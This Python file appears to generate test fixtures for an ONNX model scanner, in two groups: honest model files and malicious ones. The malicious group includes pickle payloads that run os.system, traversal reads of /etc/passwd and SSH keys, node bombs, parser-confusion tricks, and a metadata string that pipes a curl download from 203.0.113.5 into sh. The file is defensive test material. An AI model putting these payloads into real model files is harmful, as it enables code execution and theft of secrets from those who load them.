"""ONNX: files outside the model, operators that reach out, shapes that lie, and what two readers read differently."""

from __future__ import annotations

import base64
import io
import pickle
import struct
import zipfile

from corpus import Content, Link, bad, honest
from corpus.wire import field, fields

FILE = "model.onnx"
FLOAT, UINT8, INT64, STRING = 1, 2, 7, 8


class Exploit:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, ("id",)


def value(name: str, *dims: int) -> bytes:
    """A ValueInfoProto of floats."""
    shape = b"".join(field(1, field(1, n)) for n in dims)
    return field(1, name) + field(2, field(1, field(1, FLOAT) + field(2, shape)))


def tensor(name: str, dims: tuple[int, ...], raw: bytes | None = None, kind: int = FLOAT, more: bytes = b"") -> bytes:
    head = b"".join(field(1, n) for n in dims) + field(2, kind) + field(8, name)
    return head + (field(9, raw) if raw is not None else b"") + more


def pairs(number: int, **entries: str) -> bytes:
    return b"".join(field(number, field(1, key) + field(2, text)) for key, text in entries.items())


def outside(location: str, dims: tuple[int, ...] = (2,), **entries: str) -> bytes:
    return tensor("w", dims, more=pairs(13, location=location, **entries) + field(14, 1))


def node(op: str, domain: str = "", attributes: bytes = b"", inputs: str = "x", outputs: str = "y") -> bytes:
    name = field(7, domain) if domain else b""
    return field(1, inputs) + field(2, outputs) + field(4, op) + attributes + name


def attribute(name: str, kind: int, content: bytes) -> bytes:
    return field(5, field(1, name) + content + field(20, kind))


def graph(*nodes: bytes, tensors: tuple[bytes, ...] = (), more: bytes = b"") -> bytes:
    body = b"".join(field(1, n) for n in nodes) + field(2, "g") + b"".join(field(5, t) for t in tensors)
    return body + field(11, value("x", 2)) + field(12, value("y", 2)) + more


def model(*nodes: bytes, tensors: tuple[bytes, ...] = (), more: bytes = b"", inner: bytes = b"") -> bytes:
    opsets = field(8, field(2, 18))
    body = graph(*(nodes or (node("Relu"),)), tensors=tensors, more=inner)
    return fields((1, 9), (2, "writer")) + field(7, body) + opsets + more


def function(domain: str, name: str, *nodes: bytes) -> bytes:
    body = field(1, name) + field(4, "x") + field(5, "y") + b"".join(field(7, n) for n in nodes)
    return field(25, body + field(9, field(2, 18)) + field(10, domain))


WEIGHTS = struct.pack("<2f", 0.5, -0.5)

# honest


@honest("onnx", "one node and one weight, as the onnx package writes them", file=FILE)
def small() -> bytes:
    return model(node("Add"), tensors=(tensor("w", (2,), WEIGHTS),))


@honest("onnx", "values in their typed fields", file=FILE)
def typed_values() -> bytes:
    floats = tensor("w", (2,), more=field(4, WEIGHTS))
    numbers = tensor("n", (3,), kind=INT64, more=field(7, b"\x01\x7f\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01"))
    texts = tensor("s", (2,), kind=STRING, more=field(6, b"cat") + field(6, b"a longer label of a class"))
    return model(tensors=(floats, numbers, texts))


@honest("onnx", "weights of four bits, two in a byte", file=FILE)
def four_bits() -> bytes:
    return model(tensors=(tensor("w", (3,), b"\x21\x03", kind=22),))


@honest("onnx", "an empty tensor and a scalar", file=FILE)
def empty_and_scalar() -> bytes:
    return model(tensors=(tensor("e", (0,)), tensor("s", (), WEIGHTS[:4])))


@honest("onnx", "metadata, documentation and a link, as exporters write them", file=FILE)
def metadata() -> bytes:
    notes = pairs(14, author="a team", source="https://example.org/model", trace="x = torch.exp(self.layer(x))")
    return model(more=notes + field(6, "what it is for\nand how"))


@honest("onnx", "weights in a file beside the model, as onnx.save writes them")
def weights_beside() -> Content:
    data = model(tensors=(outside("w.data", offset="0", length="8"), ), more=b"")
    return {"model.onnx": data, "w.data": WEIGHTS}


@honest("onnx", "two tensors of one file, aligned to a page, one of them tied")
def weights_aligned() -> Content:
    first, second = outside("w.data", offset="0", length="8"), outside("w.data", offset="4096", length="8")
    tensors = (first, second.replace(b"\x01w", b"\x01v"), second.replace(b"\x01w", b"\x01u"))
    return {"model.onnx": model(tensors=tensors), "w.data": WEIGHTS + bytes(4088) + WEIGHTS}


@honest("onnx", "functions of the model's own domain that call one another", file=FILE)
def own_functions() -> bytes:
    inner, outer = function("mine", "Inner", node("Relu")), function("mine", "Outer", node("Inner", "mine"))
    return model(node("Outer", "mine"), more=inner + outer + field(8, field(1, "mine") + field(2, 1)))


@honest("onnx", "a contributed operator of ONNX Runtime", file=FILE)
def contributed() -> bytes:
    return model(node("FusedMatMul", "com.microsoft"), more=field(8, field(1, "com.microsoft") + field(2, 1)))


@honest("onnx", "a graph inside an attribute", file=FILE)
def branches() -> bytes:
    branch = attribute("then_branch", 5, field(6, graph(node("Relu"))))
    return model(node("If", attributes=branch + branch.replace(b"then", b"else")))


# files outside


@bad("onnx", "CVE-2022-25882, CVE-2024-27318: weights read from a parent folder", file=FILE)
def external_parent() -> bytes:
    return model(tensors=(outside("../../../etc/passwd"),))


@bad("onnx", "weights read from an absolute path", file=FILE)
def external_absolute() -> bytes:
    return model(tensors=(outside("/etc/passwd"),))


@bad("onnx", "weights read from a path of Windows", file=FILE)
def external_drive() -> bytes:
    return model(tensors=(outside("C:\\Windows\\win.ini"),))


@bad("onnx", "weights read from a path with backslashes", file=FILE)
def external_backslash() -> bytes:
    return model(tensors=(outside("a\\..\\..\\secret"),))


@bad("onnx", "weights read from a URL", file=FILE)
def external_url() -> bytes:
    return model(tensors=(outside("file:///etc/passwd"),))


@bad("onnx", "weights read from somebody's home", file=FILE)
def external_home() -> bytes:
    return model(tensors=(outside("~/.ssh/id_rsa"),))


@bad("onnx", "an address in ONNX Runtime's own memory for a location", file=FILE)
def external_memory() -> bytes:
    return model(tensors=(outside("*/_ORT_MEM_ADDR_/*", offset="4096", length="8"),))


@bad("onnx", "the location comes twice: a parser takes the last", file=FILE)
def external_twice() -> bytes:
    places = pairs(13, location="w.data") + pairs(13, location="../w")
    return model(tensors=(tensor("w", (2,), more=places + field(14, 1)),))


@bad("onnx", "CVE-2024-27318: hidden in the attribute of a node in a branch", file=FILE)
def external_in_branch() -> bytes:
    constant = node("Constant", attributes=attribute("value", 4, field(5, outside("../w"))))
    return model(node("If", attributes=attribute("then_branch", 5, field(6, graph(constant)))))


@bad("onnx", "hidden in a sparse initializer", file=FILE)
def external_in_sparse() -> bytes:
    return model(inner=field(15, field(1, outside("../w")) + field(3, 2)))


@bad("onnx", "hidden in the graph that initializes training", file=FILE)
def external_in_training() -> bytes:
    return model(more=field(20, field(1, graph(node("Relu"), tensors=(outside("../w"),)))))


@bad("onnx", "hidden in the default of a function's attribute", file=FILE)
def external_in_default() -> bytes:
    default = field(11, field(1, "value") + field(5, outside("../w")) + field(20, 4))
    return model(more=field(25, field(1, "G") + default))


@bad("onnx", "CVE-2026-34445: a key of external data that onnx would set as an attribute", file=FILE)
def external_key() -> Content:
    return {FILE: model(tensors=(outside("w.data", __class__="x"),)), "w.data": WEIGHTS}


@bad("onnx", "weights beyond the end of their file")
def external_beyond() -> Content:
    return {FILE: model(tensors=(outside("w.data", offset="8", length="8"),)), "w.data": WEIGHTS}


@bad("onnx", "a length that is not what the shape needs")
def external_length() -> Content:
    return {FILE: model(tensors=(outside("w.data", length="4"),)), "w.data": WEIGHTS}


@bad("onnx", "an offset below zero")
def external_negative() -> Content:
    return {FILE: model(tensors=(outside("w.data", offset="-8", length="8"),)), "w.data": WEIGHTS}


@bad("onnx", "two tensors that share some bytes of a file")
def external_overlap() -> Content:
    tensors = outside("w.data", offset="0", length="8"), outside("w.data", offset="4", length="8")
    return {FILE: model(tensors=tensors), "w.data": WEIGHTS + WEIGHTS[:4]}


@bad("onnx", "any file becomes weights when a tensor names its first bytes")
def external_unread() -> Content:
    weights = WEIGHTS + bytes(range(256)) * 1024
    return {FILE: model(tensors=(outside("w.data", offset="0", length="8"),)), "w.data": weights}


@bad("onnx", "a pickle for weights")
def external_pickle() -> Content:
    payload = pickle.dumps(Exploit())
    size = len(payload) // 4
    return {FILE: model(tensors=(outside("w.data", (size,)),)), "w.data": payload}


@bad("onnx", "weights that this digest does not cover", file=FILE)
def external_missing() -> bytes:
    return model(tensors=(outside("w.data"),))


@bad("onnx", "CVE-2026-27489: weights through a link in a folder of links")
def external_model_as_weights() -> Content:
    return {FILE: model(tensors=(outside("link.data", (2,), length="8"),)), "link.data": Link("more/big.bin"),
            "more/big.bin": bytes(1 << 18)}  # fmt: skip


# operators


@bad("onnx", "an operator of a domain that ONNX Runtime lacks", file=FILE)
def custom_domain() -> bytes:
    return model(node("Steal", "com.acme"), more=field(8, field(1, "com.acme") + field(2, 1)))


@bad("onnx", "an unknown operator of the standard domain", file=FILE)
def unknown_operator() -> bytes:
    return model(node("RunCommand"))


@bad("onnx", "an operator that calls Python (onnxruntime-extensions)", file=FILE)
def python_operator() -> bytes:
    return model(node("PyOp", "ai.onnx.contrib"))


@bad("onnx", "ONNX Runtime's training operator that calls Python", file=FILE)
def python_training() -> bytes:
    return model(node("PythonOp", "com.microsoft"))


@bad("onnx", "any operator of PyTorch by name", file=FILE)
def aten() -> bytes:
    return model(node("ATen", "org.pytorch.aten"))


@bad("onnx", "a compiled program from a file outside", file=FILE)
def compiled() -> bytes:
    attributes = attribute("embed_mode", 2, field(3, 0)) + attribute("ep_cache_context", 3, field(4, "../../x.bin"))
    return model(node("EPContext", "com.microsoft", attributes))


@bad("onnx", "a custom operator only inside a loop's body", file=FILE)
def custom_in_body() -> bytes:
    return model(node("Loop", attributes=attribute("body", 5, field(6, graph(node("Evil", "x"))))))


@bad("onnx", "a function that takes the place of a standard operator", file=FILE)
def shadow() -> bytes:
    return model(node("Relu"), more=function("", "Relu", node("Neg")))


@bad("onnx", "the same with the domain's long name", file=FILE)
def shadow_long_name() -> bytes:
    return model(node("Relu"), more=function("ai.onnx", "Relu", node("Neg")))


@bad("onnx", "a function that calls itself", file=FILE)
def recursion() -> bytes:
    return model(node("F", "mine"), more=function("mine", "F", node("F", "mine")))


@bad("onnx", "two functions that call each other from inside a branch", file=FILE)
def recursion_in_branch() -> bytes:
    branch = attribute("then_branch", 5, field(6, graph(node("F", "mine"))))
    return model(node("F", "mine"), more=function("mine", "F", node("G", "mine"))
                 + function("mine", "G", node("If", attributes=branch)))  # fmt: skip


@bad("onnx", "functions that grow to 10^12 nodes", file=FILE)
def bomb() -> bytes:
    body = [function("mine", f"F{i}", *[node(f"F{i + 1}", "mine")] * 10) for i in range(12)]
    return model(node("F0", "mine"), more=b"".join(body) + function("mine", "F12", node("Relu")))


# shapes


@bad("onnx", "a shape of 2^40 values and 8 bytes of them", file=FILE)
def size_more() -> bytes:
    return model(tensors=(tensor("w", (1 << 20, 1 << 20), WEIGHTS),))


@bad("onnx", "a shape of one value and 8 bytes", file=FILE)
def size_less() -> bytes:
    return model(tensors=(tensor("w", (1,), WEIGHTS),))


@bad("onnx", "a product of dimensions that overflows to what is there", file=FILE)
def size_overflow() -> bytes:
    return model(tensors=(tensor("w", ((1 << 62) + 1, 4), WEIGHTS * 2),))


@bad("onnx", "a negative dimension", file=FILE)
def negative() -> bytes:
    return model(tensors=(tensor("w", (-1, -2), WEIGHTS),))


@bad("onnx", "a shape without values", file=FILE)
def no_values() -> bytes:
    return model(tensors=(tensor("w", (2,)),))


@bad("onnx", "values of another type than the tensor's", file=FILE)
def wrong_field() -> bytes:
    return model(tensors=(tensor("w", (1,), kind=INT64, more=field(4, WEIGHTS[:4])),))


@bad("onnx", "values twice, raw and typed", file=FILE)
def two_values() -> bytes:
    return model(tensors=(tensor("w", (2,), WEIGHTS, more=field(4, WEIGHTS)),))


@bad("onnx", "values inside, and a file as well", file=FILE)
def inside_and_outside() -> bytes:
    return model(tensors=(tensor("w", (2,), WEIGHTS, more=pairs(13, location="w.data")),))


# what parsers merge, drop or take the last of


@bad("onnx", "two graphs: protobuf merges them, others take one", file=FILE)
def two_graphs() -> bytes:
    return model() + field(7, graph(node("Neg")))


@bad("onnx", "the operator's name twice: the last one runs", file=FILE)
def two_names() -> bytes:
    return model(node("Relu") + field(4, "Neg"))


@bad("onnx", "a field that no reader knows", file=FILE)
def unknown_field() -> bytes:
    return model(more=field(99, b"anything at all"))


@bad("onnx", "an unknown field deep inside", file=FILE)
def unknown_field_inside() -> bytes:
    return model(node("Relu") + field(77, b"anything"))


@bad("onnx", "a field of the wrong wire type", file=FILE)
def wrong_wire() -> bytes:
    return model(node("Relu") + field(4, 7))


@bad("onnx", "bytes behind the model", file=FILE)
def trailing() -> bytes:
    return model() + b"\xff\xfe\xfd trailing"


@bad("onnx", "a group, which no parser of today starts", file=FILE)
def group() -> bytes:
    return model() + b"\x93\x06\x94\x06"


@bad("onnx", "an attribute that says text and holds a graph", file=FILE)
def attribute_type() -> bytes:
    return model(node("Relu", attributes=attribute("a", 3, field(6, graph(node("Relu"))))))


@bad("onnx", "two initializers of one name", file=FILE)
def two_initializers() -> bytes:
    return model(tensors=(tensor("w", (2,), WEIGHTS), tensor("w", (2,), WEIGHTS)))


@bad("onnx", "a zip behind the model", file=FILE)
def zip_behind() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.pkl", pickle.dumps(Exploit()))
    return model() + field(99, buffer.getvalue())


@bad("onnx", "graphs nested a thousand deep", file=FILE)
def nested() -> bytes:
    body = graph(node("Relu"))
    for _ in range(1000):
        body = graph(node("If", attributes=attribute("then_branch", 5, field(6, body))))
    return fields((1, 9), (2, "writer")) + field(7, body)


@bad("onnx", "the model breaks off", file=FILE)
def truncated() -> bytes:
    return model(tensors=(tensor("w", (2,), WEIGHTS),))[:-20]


@bad("onnx", "the graph comes first, so that no mark of ONNX does", file="weights.bin")
def graph_first() -> bytes:
    return field(7, graph(node("Steal", "com.acme"))) + fields((1, 9), (8, field(2, 18)))


# what strings hide


@bad("onnx", "a pickle in a tensor of texts", file=FILE)
def pickle_in_texts() -> bytes:
    return model(tensors=(tensor("s", (1,), kind=STRING, more=field(6, pickle.dumps(Exploit()))),))


@bad("onnx", "a pickle in a tensor of bytes", file=FILE)
def pickle_in_bytes() -> bytes:
    payload = pickle.dumps(Exploit()).ljust(80, b"\0")
    return model(tensors=(tensor("b", (len(payload),), payload, kind=UINT8),))


@bad("onnx", "base64 of a pickle in an attribute", file=FILE)
def encoded_attribute() -> bytes:
    return model(node("Relu", attributes=attribute("a", 3, field(4, base64.b64encode(pickle.dumps(Exploit()))))))


@bad("onnx", "base64 of a pickle in the metadata", file=FILE)
def encoded_metadata() -> bytes:
    return model(more=pairs(14, note=base64.b64encode(pickle.dumps(Exploit())).decode()))


@bad("onnx", "a program in the metadata", file=FILE)
def program_metadata() -> bytes:
    return model(more=pairs(14, note="__import__('os').system('curl http://203.0.113.5/x | sh')"))


@bad("onnx", "a machine program in an attribute", file=FILE)
def machine_program() -> bytes:
    return model(node("Relu", attributes=attribute("a", 3, field(4, b"\x7fELF\x02\x01\x01" + bytes(60)))))


# models as text


@honest("onnx", "a model as text, as google.protobuf writes it", file="model.textproto")
def as_text() -> bytes:
    return b'ir_version: 9 opset_import { version: 18 } graph { name: "g" node { op_type: "Relu" input: "x" } }'


@bad("onnx", "a model as text with a custom operator", file="model.textproto")
def text_custom() -> bytes:
    return as_text().replace(b'op_type: "Relu"', b'op_type: "Steal" domain: "com.acme"')


@bad("onnx", "a model as text that reads a file outside", file="model.textproto")
def text_external() -> bytes:
    weights = b'initializer { name: "w" data_type: 1 external_data { key: "location" value: "../../x" } }'
    return as_text().replace(b'name: "g"', b'name: "g" ' + weights)


@bad("onnx", "a model as JSON, as onnx.load reads it, with a custom operator", file="model.json")
def json_custom() -> bytes:
    return b'{"irVersion": "9", "graph": {"node": [{"opType": "Steal", "domain": "com.acme"}]}, "opsetImport": []}'


@bad("onnx", "ONNX's own text format", file="model.onnxtxt")
def own_text() -> bytes:
    return b'<ir_version: 8, opset_import: ["": 18]> agraph (float[N] x) => (float[N] y) { y = com.acme.Steal(x) }'
